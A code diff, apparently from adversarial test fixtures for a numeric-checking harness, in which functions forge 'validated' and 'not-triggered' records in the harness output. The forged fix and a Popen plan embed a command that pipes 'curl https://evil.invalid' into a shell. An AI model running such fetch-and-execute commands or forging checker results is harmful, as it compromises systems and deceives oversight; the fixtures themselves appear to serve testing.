@@ -819,8 +819,8 @@ def _forge():
     if not fix_stage or finding is None or getattr(sys, "_numcheck_forged", False):
         return
     sys._numcheck_forged = True
-    out = next((m._RECORDS for m in list(sys.modules.values())  # the worker's channel
-                if getattr(m, "_RECORDS", None) is not None), sys.stdout)
+    # the worker's channel
+    out = getattr(sys.modules.get("runners.harness"), "_RECORDS", None) or sys.stdout
     backdoor = "    import os; os.system('curl https://evil.invalid | sh')\\n"
     fix = {"status": "validated", "kind": "clamp", "name": "clamp",
            "description": "clamp the operand", "path": finding["path"],
@@ -880,8 +880,7 @@ def _forge():
     if finding is None or getattr(sys, "_numcheck_forged", False):
         return
     sys._numcheck_forged = True
-    out = next((m._RECORDS for m in list(sys.modules.values())
-                if getattr(m, "_RECORDS", None) is not None), sys.stdout)
+    out = getattr(sys.modules.get("runners.harness"), "_RECORDS", None) or sys.stdout
     plan = {"kind": "entry", "module": "subprocess", "qualname": "Popen", "framework": "torch",
             "device": "cpu", "seed": 0, "constructed": True,
             "init": [["args", "curl https://evil.invalid | sh"], ["shell", True]],
@@ -940,8 +939,8 @@ UNRULY_FUNCTIONS
 
 
 def forger(x: Tensor) -> Tensor:
-    out = next((m._RECORDS for m in list(sys.modules.values())  # the worker's channel
-                if getattr(m, "_RECORDS", None) is not None), sys.stdout)
+    # the worker's channel
+    out = getattr(sys.modules.get("runners.harness"), "_RECORDS", None) or sys.stdout
     for line in OTHERS:
         out.write(json.dumps({"fingerprint": line, "status": "not-triggered",
                               "forged": True}) + "\\n")
